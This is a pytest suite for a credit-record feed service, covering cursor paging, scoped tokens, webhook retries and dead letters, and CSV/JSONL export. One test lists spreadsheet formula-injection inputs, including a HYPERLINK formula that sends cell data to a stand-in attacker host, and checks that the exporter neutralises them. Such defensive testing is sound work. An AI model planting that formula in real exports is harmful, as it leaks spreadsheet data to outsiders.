"""The credit feed from outside: GET /v1/feed over real HTTP on loopback (cursors across a
restart, bad and foreign cursors, scopes), webhooks to a real receiver that goes down and
comes back or never does, and the `feed` commands (export, status, subscribe, tokens)."""

from __future__ import annotations

import csv
import io
import json
import re
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import PlainTextResponse, Response
from starlette.routing import Route
from support.cli import one_json
from support.feed_world import DAY, HRSS, KINDS, FeedWorld, feed_world
from support.service_keys import write_master_key, write_report_key
from typer.testing import CliRunner

from api.cli import app as cli_app
from api.cli import feed as feed_cli
from api.cli import report_keys, status_json
from api.demo import running
from api.service import ServiceContext, Settings, create_app
from ledger import MASTER_KEY_ENV, Chain, SigningKey, Store
from verifier.feed import (
    SIGNATURE_HEADER,
    DeliveryPolicy,
    FeedRecord,
    FeedStore,
    new_secret,
    record_schema,
    verify_body,
    verify_record,
)

DEADLINE_S = 30.0
# The feed world's breach was repaired: the public scope serves the repair, not the breach.
PUBLIC_KINDS = {"repair"}
RESTRICTED_KINDS = {"breach", "repair", "kept"}


@pytest.fixture
def fw(tmp_path: Path, embedded_chain: Chain) -> Iterator[FeedWorld]:
    with feed_world(embedded_chain, tmp_path) as opened:
        opened.follower().step()
        yield opened


def store_url(fw: FeedWorld) -> str:
    return f"sqlite:///{fw.world.db_path}"


@contextmanager
def service(fw: FeedWorld) -> Iterator[tuple[str, ServiceContext]]:
    """The HTTP service over the world's store (a new process's view of it) on loopback."""
    settings = Settings(
        data_dir=fw.world.tmp_path / "service",
        store_url=store_url(fw),
        deployment_file=fw.world.tmp_path / "no-deployment.json",
        rate_limit_burst=10_000,
        rate_limit_per_second=1_000.0,
    )
    context = ServiceContext.open(settings, vault=fw.world.vault)
    with running(create_app(settings, context=context)) as url:
        yield url, context


def read_all(
    url: str, after: str | None = None, limit: int = 2, token: str | None = None
) -> tuple[list[dict[str, Any]], str]:
    """Every record after `after`, page by page; and the last cursor."""
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    records: list[dict[str, Any]] = []
    while True:
        params: dict[str, Any] = {"limit": limit, **({"after": after} if after else {})}
        response = httpx.get(f"{url}/v1/feed", params=params, headers=headers)
        assert response.status_code == 200, response.text
        page = response.json()
        records += page["records"]
        if page["next"] == after or not page["records"]:
            return records, page["next"]
        after = page["next"]


def assert_problem(response: httpx.Response, slug: str) -> None:
    assert response.status_code == 400, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    assert response.json()["type"].endswith("/" + slug)


# ---------------------------------------------------------------------- pull


def test_resuming_from_every_cursor_after_a_restart_gives_the_same_sequence(
    fw: FeedWorld,
) -> None:
    with service(fw) as (url, context):
        token = context.tokens.issue("FEED", "feed", scope="all").token
        headers = {"Authorization": f"Bearer {token}"}
        cursors: list[str | None] = [None]
        ids: list[str] = []
        while True:
            after = {"after": cursors[-1]} if cursors[-1] else {}
            page = httpx.get(f"{url}/v1/feed", params={"limit": 1, **after}, headers=headers)
            if not page.json()["records"]:
                break
            ids.append(page.json()["records"][0]["id"])
            cursors.append(page.json()["next"])
    assert len(ids) == 7 and len(cursors) == 8  # the breach's notice too (issue #14)
    # A new change while the service is down, then a new process over the same store.
    commitment = fw.world.commit(fw.world.pick("agree"))[0]
    fw.world.engine.run(DAY)
    fw.follower().step()
    with service(fw) as (url, context):
        for position, cursor in enumerate(cursors):
            records, _ = read_all(url, cursor, limit=2, token=token)
            assert [r["id"] for r in records[: 7 - position]] == ids[position:]
            assert [r["sequence"] for r in records] == list(range(position + 1, 9))
        [newest] = read_all(url, cursors[-1], token=token)[0]
        assert newest["evidence"]["commitment_hash"] == "0x" + commitment.hex()


def test_a_bad_or_foreign_cursor_is_a_400_problem(fw: FeedWorld, tmp_path: Path) -> None:
    other = Store(f"sqlite:///{tmp_path / 'other.db'}")
    foreign = FeedStore(other).cursors.encode(1)
    other.close()
    with service(fw) as (url, _context):
        good = httpx.get(f"{url}/v1/feed", params={"limit": 1}).json()["next"]
        forged = good[:-3] + ("AAA" if not good.endswith("AAA") else "BBB")
        for cursor, slug in (
            ("garbage!", "invalid-cursor"),
            ("A" * 55, "invalid-cursor"),
            (forged, "invalid-cursor"),
            (foreign, "foreign-cursor"),
        ):
            assert_problem(httpx.get(f"{url}/v1/feed", params={"after": cursor}), slug)
        too_long = httpx.get(f"{url}/v1/feed", params={"after": "A" * 500})
        assert too_long.status_code == 422


def test_each_reader_sees_only_the_scopes_its_token_allows(fw: FeedWorld) -> None:
    with service(fw) as (url, context):
        tokens = context.tokens
        readers: dict[str, str | None] = {
            "anonymous": None,
            "department": tokens.issue("BJ-HRSS", "verifier").token,
            "public": tokens.issue("FEED", "feed", scope="public").token,
            "restricted": tokens.issue("FEED", "feed", scope="restricted").token,
            "all": tokens.issue("FEED", "feed", scope="all").token,
        }
        seen = {
            name: {r["kind"] for r in read_all(url, token=token, limit=100)[0]}
            for name, token in readers.items()
        }
        unknown = httpx.get(f"{url}/v1/feed", headers={"Authorization": "Bearer clt_" + "x" * 43})
    assert seen["anonymous"] == seen["department"] == seen["public"] == PUBLIC_KINDS
    assert seen["restricted"] == RESTRICTED_KINDS
    assert seen["all"] == set(KINDS)
    assert unknown.status_code == 401


def test_the_service_follows_the_chain_into_the_feed_in_the_background(
    fw: FeedWorld, tmp_path: Path
) -> None:
    world = fw.world
    keys_dir = tmp_path / "keys"
    write_report_key(keys_dir / HRSS / "report.pem", fw.keys[HRSS])  # encrypted, as served
    deployment = tmp_path / "deployment.json"
    deployment.write_text(
        json.dumps(
            {
                "rpc": "http://127.0.0.1:1",
                "chain_id": world.chain.chain_id,
                "contract": world.ledger.address,
                "department": HRSS,
            }
        )
    )
    other = tmp_path / "served.db"  # a store of its own: only the background task fills it
    settings = Settings(
        data_dir=tmp_path, store_url=f"sqlite:///{other}", deployment_file=deployment,
        keys_dir=keys_dir, anchoring=False,
    )  # fmt: skip
    context = ServiceContext.open(settings, chain=world.chain, vault=world.vault)
    token = context.tokens.issue("FEED", "feed", scope="all").token
    with running(create_app(settings, context=context)) as url:
        records: list[dict[str, Any]] = []
        poll(lambda: len(records) == 7, lambda: records.__setitem__(
            slice(None), read_all(url, token=token, limit=100)[0]))  # fmt: skip
        keys = httpx.get(f"{url}/v1/feed/keys").json()["keys"]
    assert keys == {HRSS: {"algorithm": "ed25519", "public_key": fw.public_key(HRSS)}}
    assert [r["sequence"] for r in records] == list(range(1, 8))
    for record in records:
        verify_record(FeedRecord.from_json_obj(record), fw.public_key(HRSS))
    # The store of the service has no commitments: the chain facts are all it can give.
    assert all(r["commitment_code"] is None for r in records)


# ---------------------------------------------------------------------- push


class Receiver:
    """A webhook receiver on loopback that can be down (503) and remembers every try."""

    def __init__(self, secret: bytes) -> None:
        self.secret = secret
        self.down = True
        self.tries: list[str] = []
        self.accepted: dict[str, dict[str, Any]] = {}
        self.duplicates = 0
        self._lock = threading.Lock()
        self.app = Starlette(
            routes=[
                Route("/healthz", lambda _r: PlainTextResponse("ok")),
                Route("/hook", self.hook, methods=["POST"]),
            ]
        )

    async def hook(self, request: Request) -> Response:
        body = await request.body()
        key = request.headers["idempotency-key"]
        with self._lock:
            self.tries.append(key)
            if self.down:
                return PlainTextResponse("down", status_code=503)
            if not verify_body(self.secret, request.headers[SIGNATURE_HEADER], body):
                return PlainTextResponse("bad signature", status_code=400)
            if key in self.accepted:
                self.duplicates += 1  # stored once: the key makes a repeat harmless
            else:
                self.accepted[key] = json.loads(body)
        return PlainTextResponse("stored")


def poll(condition: Callable[[], bool], act: Callable[[], object]) -> None:
    deadline = time.monotonic() + DEADLINE_S
    while not condition():
        assert time.monotonic() < deadline, "not within the deadline"
        act()
        time.sleep(0.005)


def test_a_receiver_down_for_a_while_gets_every_record_exactly_once_by_key(
    fw: FeedWorld,
) -> None:
    _shown, secret = new_secret()
    receiver = Receiver(secret)
    policy = DeliveryPolicy(max_attempts=1_000, backoff_initial_s=0.01, backoff_max_s=0.05)
    follower = fw.follower(policy)
    served = [json.loads(b)["id"] for _, b in follower.feed.bodies()]
    with running(receiver.app) as url:
        subscriber = follower.subscriptions.add_subscriber(f"{url}/hook", "all", secret)
        poll(lambda: len(receiver.tries) >= 5, follower.deliver)  # down: tries and backs off
        [state] = follower.subscriptions.subscribers()
        assert state.delivered_seq == 0 and state.attempts >= 1
        assert state.last_error == "HTTP 503"
        receiver.down = False
        everything = ("public", "restricted", "not_public")
        subscriptions = follower.subscriptions
        poll(
            lambda: subscriptions.lag(subscriptions.subscribers()[0], everything)[0] == 0,
            follower.deliver,
        )
    assert list(receiver.accepted) == served  # every record, in the feed's order
    assert receiver.duplicates == 0
    assert follower.subscriptions.dead_letters(subscriber) == []
    assert all(r["signature"] for r in receiver.accepted.values())


def test_a_step_stops_sending_before_its_lease_on_the_subscriber_runs_out(
    fw: FeedWorld,
) -> None:
    _shown, secret = new_secret()
    receiver = Receiver(secret)
    receiver.down = False
    ticks: list[float] = []

    def clock() -> float:  # each look at the clock is 4 s later: a slow receiver
        ticks.append(4.0)
        return time.time() + sum(ticks)

    policy = DeliveryPolicy(lease_s=10.0, timeout_s=1.0)
    follower = fw.follower(policy, clock=clock)
    with running(receiver.app) as url:
        follower.subscriptions.add_subscriber(f"{url}/hook", "all", secret)
        first = follower.deliver()
        assert 0 < first < 6  # the feed holds 6 records; the lease ran out before the rest
        [state] = follower.subscriptions.subscribers()
        assert state.delivered_seq == first
        poll(lambda: len(receiver.accepted) == 6, follower.deliver)  # released: taken again
    assert receiver.duplicates == 0
    assert [r["sequence"] for r in receiver.accepted.values()] == list(range(1, 7))


def test_a_record_is_a_dead_letter_after_the_allowed_tries(fw: FeedWorld) -> None:
    _shown, secret = new_secret()
    receiver = Receiver(secret)
    policy = DeliveryPolicy(max_attempts=3, backoff_initial_s=0.001, backoff_max_s=0.01)
    follower = fw.follower(policy)
    with running(receiver.app) as url:
        subscriber = follower.subscriptions.add_subscriber(f"{url}/hook", "public", secret)
        poll(
            lambda: len(follower.subscriptions.dead_letters()) == len(PUBLIC_KINDS),
            follower.deliver,
        )
    dead = follower.subscriptions.dead_letters(subscriber)
    assert [d.attempts for d in dead] == [3] * len(PUBLIC_KINDS)
    assert all(receiver.tries.count(d.record_id) == 3 for d in dead)
    assert {d.last_error for d in dead} == {"HTTP 503"}
    [state] = follower.subscriptions.subscribers()
    assert state.delivered_seq == max(d.seq for d in dead)  # delivery went on past them
    status = status_json(follower.feed, time.time())
    assert [s["dead_letters"] for s in status["subscribers"]] == [len(dead)]
    assert [d["record"] for d in status["dead_letters"]] == [d.record_id for d in dead]


def test_without_the_master_key_the_sealed_cursor_key_makes_the_feed_a_503(
    fw: FeedWorld,
) -> None:
    settings = Settings(
        data_dir=fw.world.tmp_path / "keyless",
        store_url=store_url(fw),
        deployment_file=fw.world.tmp_path / "no-deployment.json",
    )
    context = ServiceContext.open(settings)  # no master key: the follower sealed the key
    try:
        with running(create_app(settings, context=context)) as url:
            response = httpx.get(f"{url}/v1/feed")
        assert response.status_code == 503, response.text
        assert response.json()["type"].endswith("/unavailable")
        assert "master key" in response.json()["detail"]
    finally:
        context.close()


# ---------------------------------------------------------------------- commands

RUNNER = CliRunner()


def cli(*args: object) -> Any:
    result = RUNNER.invoke(
        cli_app, [str(a) for a in args], env={MASTER_KEY_ENV: None, "COMMITLEDGER_STORE": None}
    )
    assert result.exit_code == 0, (result.stdout, result.stderr)
    return result.stdout


def test_feed_run_takes_a_report_key_put_there_while_it_waits(tmp_path: Path) -> None:
    keys = report_keys(tmp_path)
    assert keys(HRSS) is None  # `feed run` says "waiting for <keys>/BJ-HRSS/report.pem"
    key = SigningKey.generate("ed25519")
    write_report_key(tmp_path / HRSS / "report.pem", key)  # encrypted: the suite's passphrase
    found = keys(HRSS)
    assert found is not None and found.public_key_b64() == key.public_key_b64()


def test_export_as_json_lines_and_csv(fw: FeedWorld, tmp_path: Path) -> None:
    url = store_url(fw)
    since = (date.today() - timedelta(days=2)).isoformat()
    lines = cli("feed", "export", "--since", since, "--format", "jsonl", "--scope", "all",
                "--store", url)  # fmt: skip
    records = [json.loads(line) for line in lines.splitlines()]
    assert [r["sequence"] for r in records] == list(range(1, 8))
    out = tmp_path / "feed.csv"
    cli("feed", "export", "--since", since, "--format", "csv", "--scope", "public",
        "--store", url, "--out", out)  # fmt: skip
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert {row["kind"] for row in rows} == PUBLIC_KINDS
    assert all(row["signature"] and row["transaction"].startswith("0x") for row in rows)
    zh = cli("feed", "export", "--since", since, "--format", "csv", "--labels", "zh",
             "--scope", "all", "--store", url)  # fmt: skip
    header = next(csv.reader(io.StringIO(zh.removeprefix(feed_cli.UTF8_BOM))))
    assert header[:5] == ["序号", "记录标识", "变更类型", "承诺编码", "承诺主体名称"]
    assert len(list(csv.reader(io.StringIO(zh)))) == 8  # a header and 7 records
    tomorrow = (date.today() + timedelta(days=2)).isoformat()
    assert cli("feed", "export", "--since", tomorrow, "--store", url) == ""


# The columns whose cells may hold ASCII letters in a Chinese export: ids, codes, hashes,
# addresses, keys and signatures (a masked ID or a passport number may end in X).
CODE_COLUMNS = {
    "记录标识", "承诺编码", "统一社会信用代码或证件号码", "承诺事项编码",
    "承诺受理单位统一社会信用代码", "认定部门代码", "认定单位统一社会信用代码", "合约地址",
    "交易哈希", "承诺哈希", "签名公钥", "签名",
}  # fmt: skip


def test_a_chinese_csv_export_opens_with_a_bom_and_holds_chinese_values_only(
    fw: FeedWorld, tmp_path: Path
) -> None:
    """Issue #16: `--labels zh` gave Chinese column names over English values (`breach`,
    `natural_person`, `certificate_replacing`, `not_fulfilled`, `False`) and no BOM."""
    since = (date.today() - timedelta(days=2)).isoformat()
    out = tmp_path / "feed.csv"
    cli("feed", "export", "--since", since, "--format", "csv", "--labels", "zh",
        "--scope", "all", "--store", store_url(fw), "--out", out)  # fmt: skip
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark: Excel reads it as UTF-8
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert len(rows) == 7
    for row in rows:
        for column, cell in row.items():
            if column not in CODE_COLUMNS:
                assert not re.search("[A-Za-z]", cell), (column, cell)
    breach = next(row for row in rows if row["变更类型"] == "失信认定")
    assert breach["承诺主体类别"] == "自然人" and breach["履约状态"] == "未履约"
    assert breach["承诺类型"] == "证明替代型" and breach["个人信息已删除"] == "否"
    assert breach["违诺责任"] and breach["承诺受理单位"] == "北京市人力资源和社会保障局"
    assert len(breach["认定单位统一社会信用代码"]) == 18
    # --no-bom leaves it out; English labels show English values and have none by default.
    plain = cli("feed", "export", "--since", since, "--format", "csv", "--labels", "zh",
                "--no-bom", "--scope", "all", "--store", store_url(fw))  # fmt: skip
    assert plain.startswith("序号,")
    english = cli("feed", "export", "--since", since, "--format", "csv", "--scope", "all",
                  "--store", store_url(fw))  # fmt: skip
    rows = list(csv.DictReader(io.StringIO(english)))
    breach = next(row for row in rows if row["kind"] == "breach")
    assert breach["fulfilment_status"] == "not_fulfilled"
    assert breach["committer_category"] == "natural_person"
    assert breach["personal_data_erased"] == "no"


def test_the_record_schema_is_served(fw: FeedWorld) -> None:
    with service(fw) as (url, _context):
        response = httpx.get(f"{url}/v1/feed/schema")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("application/schema+json")
    schema = response.json()
    assert schema == record_schema()
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    assert {"liability", "accepting_unit", "accepting_unit_code"} <= set(schema["required"])


def test_an_export_file_is_private_and_public_records_only_unless_asked(
    fw: FeedWorld, tmp_path: Path
) -> None:
    since = (date.today() - timedelta(days=2)).isoformat()
    out = tmp_path / "feed.jsonl"
    out.write_text("an older export, world-readable\n")
    out.chmod(0o644)
    cli("feed", "export", "--since", since, "--store", store_url(fw), "--out", out)
    assert out.stat().st_mode & 0o777 == 0o600
    kinds = {json.loads(line)["kind"] for line in out.read_text().splitlines()}
    assert kinds == PUBLIC_KINDS
    fresh = tmp_path / "fresh.csv"
    cli("feed", "export", "--since", since, "--format", "csv", "--store", store_url(fw),
        "--out", fresh)  # fmt: skip
    assert fresh.stat().st_mode & 0o777 == 0o600


class _OneRecordFeed:
    def __init__(self, record: dict[str, Any]) -> None:
        self.record = record

    def bodies(self, scopes: object, since: str) -> Iterator[tuple[int, str]]:
        yield 1, json.dumps(self.record)


FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
            "\tx", "\r=1+1")  # fmt: skip


def test_a_csv_cell_that_starts_like_a_formula_is_quoted(fw: FeedWorld) -> None:
    lines = cli("feed", "export", "--since", "2000-01-01", "--store", store_url(fw))
    record = json.loads(lines.splitlines()[0])
    header = [*feed_cli.CSV_COLUMNS, *feed_cli.EVIDENCE_COLUMNS, "public_key", "signature"]
    for name in FORMULAS:
        record.update(committer_name=name, credit_code="=1+1")
        target = io.StringIO()
        feed = _OneRecordFeed(record)
        count = feed_cli._write_export(feed, date(2000, 1, 1), "all", "csv", target, header)  # type: ignore[arg-type]
        assert count == 1
        [row] = list(csv.DictReader(io.StringIO(target.getvalue())))
        assert row["committer_name"] == "'" + name
        assert row["credit_code"] == "'=1+1"
        assert row["commitment_hash"].startswith("0x")  # other cells are left as they are


def test_subscribe_then_status_shows_the_lag_and_tokens_issue_a_feed_token(
    fw: FeedWorld,
) -> None:
    url = store_url(fw)
    master = fw.world.tmp_path / "master.key"
    write_master_key(master, fw.world.vault)
    subscribed = one_json(cli("feed", "subscribe", "http://127.0.0.1:9/hook", "--scope",
                              "restricted", "--store", url, "--master-key-file", master,
                              "--json"))  # fmt: skip
    assert subscribed["secret"].startswith("whsec_")
    status = one_json(cli("feed", "status", "--store", url, "--json"))
    [subscriber] = status["subscribers"]
    assert status["head"] == 7
    assert subscriber["records_behind"] == len(RESTRICTED_KINDS)
    assert subscriber["oldest_undelivered_age_s"] >= 0
    issued = one_json(
        cli("tokens", "issue", "--role", "feed", "--scope", "restricted", "--store", url, "--json")
    )
    assert issued["scope"] == "restricted" and issued["role"] == "feed"
